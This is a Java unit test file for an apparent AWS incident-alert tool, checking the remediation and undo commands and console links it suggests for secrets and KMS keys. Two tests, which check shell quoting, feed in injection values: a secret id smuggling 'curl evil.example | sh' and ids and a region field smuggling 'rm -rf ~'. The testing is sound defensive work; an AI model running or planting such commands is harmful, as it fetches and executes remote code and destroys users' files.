package io.trailhound.alert;

import static org.assertj.core.api.Assertions.assertThat;

import io.trailhound.detect.Detection;
import io.trailhound.detect.ResourceRef;
import io.trailhound.detect.ResourceType;
import io.trailhound.enrich.ResourceFacts;
import io.trailhound.remediate.RemediationOutcome;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class NextStepsTest {
    static List<NextSteps.Step> steps(Alert a) {
        FindingGroup g = a.groups().get(0);
        return NextSteps.of(
                g,
                a.facts().get(g.first().resource()),
                a.remediation(),
                a.window(),
                a.alarm().region());
    }

    static List<String> values(List<NextSteps.Step> steps) {
        return steps.stream().map(s -> s.kind() + " " + s.value()).toList();
    }

    @Test
    void aSecretSecretsManagerConfirmedGetsTheRestoreCommandWithItsArnAndRegionAndItsPages() {
        var f = Fixtures.secretRead("prod/db", 0);
        Alert a = Fixtures.alert(List.of(f), Map.of(f.resource(), Fixtures.scheduledSecret()), List.of());
        assertThat(values(steps(a)))
                .containsExactly(
                        "RUN aws secretsmanager restore-secret --secret-id " + Fixtures.SECRET_ARN
                                + " --region us-east-1",
                        "OPEN https://us-east-1.console.aws.amazon.com/secretsmanager/secret?name=prod%2Fdb&region=us-east-1",
                        "OPEN https://us-east-1.console.aws.amazon.com/cloudtrailv2/home?region=us-east-1#/events/"
                                + f.eventId(),
                        "RUN aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventId,AttributeValue="
                                + f.eventId() + " --region us-east-1",
                        "OPEN https://us-east-1.console.aws.amazon.com/cloudwatch/home?region=us-east-1"
                                + "#logsV2:logs-insights$3FqueryDetail$3D~(end~'2026-11-23T10*3a30*3a00Z"
                                + "~start~'2026-11-23T10*3a05*3a00Z~timeType~'ABSOLUTE~tz~'UTC~editorString~'"
                                + "fields*20*40timestamp*2c*20eventName*2c*20userIdentity.arn*2c*20sourceIPAddress"
                                + "*2c*20errorCode*2c*20errorMessage*0a*7c*20filter*20eventSource*20*3d*20*22"
                                + "secretsmanager.amazonaws.com*22*0a*7c*20filter*20eventName*20*3d*20*22GetSecretValue*22"
                                + "*0a*7c*20sort*20*40timestamp*20desc~source~(~'CloudTrail*2fMyCloudWatchLogGroup))");
    }

    @Test
    void anUnconfirmedResourceGetsOnlyTheReadOnlyCheckAndAHostileIdIsOneQuotedWord() {
        var f = Fixtures.secretRead("x'; curl evil.example | sh; echo '", 0);
        Alert a = Fixtures.alert(List.of(f), Map.of(), List.of());
        List<NextSteps.Step> s = steps(a);
        assertThat(s.get(0).kind()).isEqualTo(NextSteps.Kind.RUN);
        assertThat(s.get(0).value())
                .isEqualTo("aws secretsmanager describe-secret --secret-id 'x'\\''; curl evil.example | sh; echo '\\'''"
                        + " --region us-east-1");
        assertThat(values(s)).noneMatch(v -> v.contains("restore-secret"));
    }

    @Test
    void aValueThatCannotBePastedSafelyGivesNoCommandAndADamagedRegionNone() {
        var hidden = Fixtures.secretRead("prod/db\nrm -rf ~", 0);
        assertThat(values(steps(Fixtures.alert(List.of(hidden), Map.of(), List.of()))))
                .noneMatch(v -> v.contains("--secret-id") || v.contains("rm -rf"));
        var damaged = Fixtures.finding(
                Detection.SECRET_MARKED_FOR_DELETION,
                new ResourceRef(ResourceType.SECRET, "prod/db", "us-east-1; rm -rf ~"),
                "arn:aws:iam::111122223333:role/app",
                "203.0.113.10",
                "GetSecretValue",
                "origin",
                0);
        assertThat(values(steps(Fixtures.alert(List.of(damaged), Map.of(), List.of()))))
                .noneMatch(v -> v.contains("rm -rf"))
                .noneMatch(v -> v.contains("--secret-id"));
    }

    @Test
    void whenTrailhoundCancelledTheDeletionTheUndoSchedulesItAgainWithTheOriginalWindow() {
        var f = Fixtures.secretRead("prod/db", 0);
        ResourceFacts restored = new ResourceFacts(
                Fixtures.SECRET_ARN,
                "prod/db",
                "Active",
                null,
                null,
                List.of(),
                Map.of(),
                Fixtures.scheduledSecret().scheduling(),
                List.of());
        var done = List.of(new RemediationOutcome(
                Fixtures.SECRET_ARN, "RestoreSecret", RemediationOutcome.Status.DONE, "cancelled"));
        List<NextSteps.Step> s = steps(Fixtures.alert(List.of(f), Map.of(f.resource(), restored), done));
        assertThat(values(s)).noneMatch(v -> v.contains("restore-secret"));
        assertThat(s)
                .filteredOn(x -> x.kind() == NextSteps.Kind.UNDO)
                .singleElement()
                .satisfies(x -> assertThat(x.value())
                        .isEqualTo("aws secretsmanager delete-secret --secret-id " + Fixtures.SECRET_ARN
                                + " --recovery-window-in-days 7 --region us-east-1"));
    }

    @Test
    void aKeyKmsConfirmedGetsCancelThenEnableAndTheUndoOfBothWhenTrailhoundDidThem() {
        var f = Fixtures.finding(
                Detection.KMS_KEY_PENDING_DELETION,
                new ResourceRef(ResourceType.KMS_KEY, Fixtures.KEY_ARN, "us-east-1"),
                "arn:aws:iam::111122223333:role/worker",
                "203.0.113.55",
                "Decrypt",
                "origin",
                0);
        ResourceFacts pending = new ResourceFacts(
                Fixtures.KEY_ARN,
                "1234abcd-12ab-34cd-56ef-1234567890ab",
                "PendingDeletion",
                null,
                null,
                List.of(),
                Map.of(),
                null,
                List.of());
        assertThat(values(steps(Fixtures.alert(List.of(f), Map.of(f.resource(), pending), List.of()))))
                .startsWith(
                        "RUN aws kms cancel-key-deletion --key-id " + Fixtures.KEY_ARN + " --region us-east-1",
                        "RUN aws kms enable-key --key-id " + Fixtures.KEY_ARN + " --region us-east-1",
                        "OPEN https://us-east-1.console.aws.amazon.com/kms/home?region=us-east-1#/kms/keys/"
                                + "1234abcd-12ab-34cd-56ef-1234567890ab");
        var done = List.of(
                new RemediationOutcome(Fixtures.KEY_ARN, "CancelKeyDeletion", RemediationOutcome.Status.DONE, "ok"),
                new RemediationOutcome(Fixtures.KEY_ARN, "EnableKey", RemediationOutcome.Status.DONE, "ok"));
        ResourceFacts enabled = new ResourceFacts(
                Fixtures.KEY_ARN, pending.name(), "Enabled", null, null, List.of(), Map.of(), null, List.of());
        assertThat(steps(Fixtures.alert(List.of(f), Map.of(f.resource(), enabled), done)))
                .filteredOn(x -> x.kind() == NextSteps.Kind.UNDO)
                .extracting(NextSteps.Step::value)
                .containsExactly(
                        "aws kms disable-key --key-id " + Fixtures.KEY_ARN + " --region us-east-1",
                        "aws kms schedule-key-deletion --key-id " + Fixtures.KEY_ARN
                                + " --pending-window-in-days 30 --region us-east-1");
    }
}
